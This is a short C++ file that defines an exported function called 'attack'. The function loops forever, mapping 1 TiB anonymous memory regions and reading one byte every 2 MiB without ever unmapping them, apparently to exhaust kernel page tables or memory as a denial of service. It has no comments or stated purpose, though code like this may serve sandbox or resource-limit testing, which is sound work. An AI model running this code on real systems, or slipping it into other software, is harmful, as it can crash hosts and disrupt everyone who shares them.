#include <sys/mman.h>

static const long STEP = 2 << 20, SIZE = 1L << 40;

extern "C" long attack(long n) {
    for (;;) {
        int flags = MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE;
        void *map = mmap(nullptr, SIZE, PROT_READ, flags, -1, 0);
        if (map == MAP_FAILED)
            return -1;
        madvise(map, SIZE, MADV_NOHUGEPAGE);
        for (long at = 0; at < SIZE; at += STEP)
            n += static_cast<volatile char *>(map)[at];
    }
    return n;
}
